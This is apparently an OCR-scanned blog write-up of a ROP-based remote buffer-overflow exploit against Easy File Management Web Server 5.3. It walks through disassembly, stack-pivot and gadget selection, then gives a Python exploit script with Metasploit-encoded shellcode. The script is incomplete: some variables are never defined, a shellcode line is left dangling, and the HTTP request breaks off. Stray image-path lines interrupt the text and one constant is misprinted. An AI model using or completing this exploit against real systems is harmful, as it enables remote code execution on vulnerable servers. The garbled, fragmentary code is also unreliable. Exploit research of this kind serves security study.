During the last few days a lot of nice Remote Exploits have been released over at Exploit-DB by one of my followers Harold aka superkojiman targeting applications by EFS Software Inc. First of all: Kudos to Harold, you did a really nice job :-)!

As I were looking through his releases, I noticed a special one which immediately drew my attention: Easy File Management Web Server 5.3 - Stack Buffer Overflow - especially the technique used to achieve code execution - according to one of the comments:

`# only second byte changes in the stack address changes, so we can brute`
`# force it`

I’ve tested this exploit multiple times against my WinXP VM, but unfortunately I noticed that the bruteforce-scenario wasn’t quite reliable, as the application crashed sometimes and it doesn’t work on Windows7/8 - the application does not crash at all.

So I thought that there has to be a way to execute some code without the need of brute forcing the stack-address. Here’s the write-up on my exploit that works reliably on all MS OS up to 8 :-)

Method #1 - Brute Force the Stack Address

Before moving on, let’s just have a quick look at the vulnerability itself and the reason why you could brute-force the stack address. Taken from the exploit comments:

`# By setting UserID in the cookie to a long string, we can overwrite EDX which`
`# allows us to control execution flow when the following instruction is`
`# executed:`A quite common buffer overflow scenario :-) - in means of assembly:

004686FE  |. 53             PUSH EBX
004686FF  |. 53             PUSH EBX
00468700  |. 8BCF           MOV ECX,EDI
00468702  |. FF52 28        CALL DWORD PTR DS:[EDX+28] <--- crash
00468705  |. 385E 02        CMP BYTE PTR DS:[ESI+2],BL
00468708  |. 74 10          JE SHORT fmws.0046871A
0046870A  |. 8B07           MOV EAX,DWORD PTR DS:[EDI]
0046870C  |. 8D4E 20        LEA ECX,DWORD PTR DS:[ESI+20]
0046870F  |. 68 703C0000    PUSH 3C70
00468714  |. 51             PUSH ECX
00468715  |. 8BCF           MOV ECX,EDI

Due to the oversized UserID value, the attacker gets control over EDX, which is afterwards used in a pointer call at 0x00468702. This may result in a possible redirection of the application flow and EDI points to somewhere inside the overwritten stack-part. Please notice the addresses of the overwritten stack-part:


The reason why to use a brute-forcing method is simply the following: If you restart the application and try to exploit the same flaw a second time, the location of the overwritten stack-part may have changed:


So if you try to build an exploit that relies on the stack-address, the brute-forcing method may be the only solution tosolve this problem.

Method #2: Feed the Call Pointer with Something Trusted

The second method is quite simple in its idea: Do not use a stack address in your exploit! :-D :-D …. Instead use trusted code segments (that don’t change their address in memory - they’re not rebased!) and/or use only relative exploiting methods like ROP :-).

Enough gibberish. Let’s have a look at the technical details.

Instead of feeding the CALL DWORD PTR DS:[EDX+28] at 0x00468702 with an address from the stack, let’s feed it with a pointer to an address within the .text segment of ImageLoad.dll, which finally should do the stackpivoting. After a really long search for a usable pointer, I found this one using lovely mona.py:

0x1001d89b : {pivot 604 / 0x25c} :  # POP EDI # POP ESI # POP EBP # POP EBX # ADD ESP,24C # RETN    ** [ImageLoad.dll] **

All you have to do is find a string in the .text segment of ImageLoad.dll which is before and of course near to (more about this later) the stack pivot address at 0x1001d89b.Searching for the string “\xD8\x01\x10” results in a perfect match at 0x1001D8F0 that contains “\x7A\xD8\x01\x10”, which is due to little endianess 0x1001D87A:


The code starting at 0x1001087A up to the start of the stackpivot (0x1001D89B) is:

1001D87A   8BBC24 64020000  MOV EDI,DWORD PTR SS:[ESP+264] <-- ptr from ImageLoad.dll
1001D881   8A1F             MOV BL,BYTE PTR DS:[EDI]
1001D883   47               INC EDI
1001D884   84DB             TEST BL,BL
1001D886   885C24 40        MOV BYTE PTR SS:[ESP+40],BL
1001D88A   89BC24 64020000  MOV DWORD PTR SS:[ESP+264],EDI
1001D891  ^0F85 DEF7FFFF    JNZ ImageLoa.1001D075
1001D897   8B4424 1C        MOV EAX,DWORD PTR SS:[ESP+1C]
1001D89B   5F               POP EDI <-- stackpivot!
1001D89C   5E               POP ESI
1001D89D   5D               POP EBP
1001D89E   5B               POP EBX
1001D89F   81C4 4C020000    ADD ESP,24C
1001D8A5   C3               RETN

This is a quite good match, because there are only a few instructions between the .text segment pointer and the stackpivot instructions! And that’s the reason why you should pick an address that is close to your stackpivot, otherwise there may be instructions that change major parts of your stack or even jump to undesired memory locations resulting in loss of application flow.


Now that you have an address for the CALL DWORD PTR DS:[EDX+28] instruction from the .text segment, notice that 28h are added to EDX, which means you have to substract it: 0x1001D8F0 - 28h = 0x1001D8C8Feed it! Great the application flow was successfully redirected to 0x1001D87A!


Ok, just a few more problems to solve. The application flow was redirected but the application crashes due to an access violation at 0x1001D881:

1001D87A   8BBC24 64020000  MOV EDI,DWORD PTR SS:[ESP+264]
1001D881   8A1F             MOV BL,BYTE PTR DS:[EDI]
1001D883   47               INC EDI
1001D884   84DB             TEST BL,BL
1001D886   885C24 40        MOV BYTE PTR SS:[ESP+40],BL
1001D88A   89BC24 64020000  MOV DWORD PTR SS:[ESP+264],EDI
1001D891  ^0F85 DEF7FFFF    JNZ ImageLoa.1001D075

The content of ESP-264 is MOVed to EDI and afterwards the contents are copied to BL. So you need an address which is readable (for the MOV instruction) and which can be used to pass the JNZ instruction at 0x1001D891, otherwise the JNZ instruction will take your application flow control. To achieve this, you simply need a 0-value in BL:


There’s a usable value at 0x10010125, which contains \x00\x00\x00\x00! This results in EBX being zeroed out and the Zero-Flag is set (due to the TEST BL,BL at 0x1001D884):


This means that the JNZ instruction at 0x1001D891 is not taken and the application continues to execute the stackpivot up to the RETN. Then it would move on to a pop/pop/ret instruction at0x10010101:


ROPing to the Shellcode

The following diagram shows how the further ROPing leads to the executing of the shellcode.


Step #1:

This is the first RET after the stackpivot. ESP+25C contains 0x10010101, which is a simple p/p/r instruction set:

POP EBX # POP ECX # RETN [ImageLoad.dll]

It pops the following two values at ESP+260 0xA445ABCF and at ESP+264 0x10010125. Now the value at ESP+264 is already familiar to you, because it’s used to set the Zero-Flag in the TEST BL, BL instruction at 0x1001D884, so you can POP that somewhere.

The value 0xA445ABCF is used to craft  a JMP ESP call on the stack. So why that? As every \x00 would break the Exploit and there are only two JMP ESP instructions in non-OS modules:

0x006a3a0d (b+0x00073a0d)  : jmp esp | startnull,ascii {PAGE_EXECUTE_READ} [LIBEAY32.dll] ASLR: False, Rebase: True, SafeSEH: False, OS: False, v-1.0- (C:\EFS Software\Easy File Management Web Server\LIBEAY32.dll)
0x00457452 : jmp esp | startnull,asciiprint,ascii,alphanum {PAGE_EXECUTE_READ} [fmws.exe] ASLR: False, Rebase: False, SafeSEH: False, OS: False, v5.3.0.0 (C:\EFS Software\Easy File Management Web Server\fmws.exe)

And both are starting with 00, you need to craft the value for one of themdirectly on the stack. That’s by the way the same reason why you have to stick to the ImageLoad.dll during the whole ROPing, because it’s the only module that does not start with a 0x00!

Step #2:

The instruction at ESP+268 (0x10022AAC)

MOV EAX,EBX # POP ESI # POP EBX # RETN [ImageLoad.dll]

moves the value of EBX (0xA445ABCF) into EAX for some more crafting magic. The included p/p/r just moves two dummy values 0xDEADBEEF to ESI and EBX, because I haven’t found any shorter instructions sets.

Step #3:Here’s the crafting magic. The instruction at 0x1001a187 is a simple:

ADD EAX,5BFFC883 # RETN [ImageLoad.dll]

It adds 0x5BFFC8822 to EAX which contains 0xA445ABCF. The result of this addition is: 0x00457452, which contains the JMP ESP from Step #1.

Step #4:

The instruction at ESP+278 (0x1002466d):PUSH EAX # RETN [ImageLoad.dll]

PUSHes the crafted JMP ESP value from EAX onto the stack and RETs (executes it).

Step #5/#6:

ESP is now pointing to the nopsled:


and it executes the shellcode resulting i a poped calc.exe:Pwned. Reliably pwned.

The Exploit

Have fun! :-)

# Exploit Title: Easy File Management Web Server v5.3 - USERID Remote Buffer Overflow (ROP)
# Version:       5.3
# Date:          2014-05-31
# Author:        Julien Ahrens (@MrTuxracer)
# Homepage:      https://www.rcesecurity.com
# Software Link: http://www.efssoft.com/
# Tested on:     WinXP-GER, Win7x64-GER, Win8-EN, Win8x64-GER
# Credits for vulnerability discovery:
# superkojiman (http://www.exploit-db.com/exploits/33453/)
# Howto / Notes:
# This scripts exploits the buffer overflow vulnerability caused by an oversized UserID - string as
# discovered by superkojiman. In comparison to superkojiman's exploit, this exploit does not
# brute force the address of the overwritten stackpart, instead it uses code from its own
# .text segment to achieve reliable code execution.

from struct import pack
import socket,sys
import os


junk0 = "\x90" * 80

# Instead of bruteforcing the stack address, let's take an address
# from the .text segment, which is near to the stackpivot instruction:
# 0x1001d89b : {pivot 604 / 0x25c} # POP EDI # POP ESI # POP EBP # POP EBX # ADD ESP,24C # RETN [ImageLoad.dll]
# The memory located at 0x1001D8F0: "\x7A\xD8\x01\x10" does the job!
# Due to call dword ptr [edx+28h]: 0x1001D8F0 - 28h = 0x1001D8C8

junk1="\x90" * 280
ppr=pack('<L',0x10010101) # POP EBX # POP ECX # RETN [ImageLoad.dll]

# Since 0x00 would break the exploit, the 0x00457452 (JMPESP [fmws.exe]) needs to be crafted on the stack

test_bl=pack('<L',0x10010125) # contains 00000000 to pass the JNZ instruction

kungfu=pack('<L',0x10022aac)  # MOV EAX,EBX # POP ESI # POP EBX # RETN [ImageLoad.dll]
kungfu+=pack('<L',0xDEADBEEF) # filler
kungfu+=pack('<L',0xDEADBEEF) # filler
kungfu+=pack('<L',0x1001a187) # ADD EAX,5BFFC883 # RETN [ImageLoad.dll] # finish crafting JMP ESP
kungfu+=pack('<L',0x1002466d) # PUSH EAX # RETN [ImageLoad.dll]

nopsled="\x90" * 20

# windows/exec CMD=calc.exe
# Encoder: x86/shikata_ga_nai
# powered by Metasploit
# msfpayload windows/exec CMD=calc.exe R | msfencode -b '\x00\x0a\x0d'shellcode=("\xda\xca\xbb\xfd\x11\xa3\xae\xd9\x74\x24\xf4\x5a\x31\xc9" +
"\xb1\x33\x31\x5a\x17\x83\xc2\x04\x03\xa7\x02\x41\x5b\xab" +
"\xcd\x0c\xa4\x53\x0e\x6f\x2c\xb6\x3f\xbd\x4a\xb3\x12\x71" +
"\x18\x91\x9e\xfa\x4c\x01\x14\x8e\x58\x26\x9d\x25\xbf\x09" +
"\x1e\x88\x7f\xc5\xdc\x8a\x03\x17\x31\x6d\x3d\xd8\x44\x6c" +
"\x7a\x04\xa6\x3c\xd3\x43\x15\xd1\x50\x11\xa6\xd0\xb6\x1e" +
"\x96\xaa\xb3\xe0\x63\x01\xbd\x30\xdb\x1e\xf5\xa8\x57\x78" +
"\x26\xc9\xb4\x9a\x1a\x80\xb1\x69\xe8\x13\x10\xa0\x11\x22" +
"\x5c\x6f\x2c\x8b\x51\x71\x68\x2b\x8a\x04\x82\x48\x37\x1f" +
"\x51\x33\xe3\xaa\x44\x93\x60\x0c\xad\x22\xa4\xcb\x26\x28" +
"\x01\x9f\x61\x2c\x94\x4c\x1a\x48\x1d\x73\xcd\xd9\x65\x50" +
"\xc9\x82\x3e\xf9\x48\x6e\x90\x06\x8a\xd6\x4d\xa3\xc0\xf4" +
"\x9a\xd5\x8a\x92\x5d\x57\xb1\xdb\x5e\x67\xba\x4b\x37\x56" +
"\x31\x04\x40\x67\x90\x61\xbe\x2d\xb9\xc3\x57\xe8\x2b\x56" +
"\x3a\x0b\x86\x94\x43\x88\x23\x64\xb0\x90\x41\x61\xfc\x16" +"\xb9\x1b\x6d\xf3\xbd\x88\x8e\xd6\xdd\x4f\x1d\xba\x0f\xea" +

payload=junk0 + call_edx + junk1 + ppr + crafted_jmp_esp + test_bl + kungfu + nopsled + shellcode

buf="GET /vfolder.ghp HTTP/1.1\r\n"
buf+="User-Agent: Mozilla/4.0\r\n"
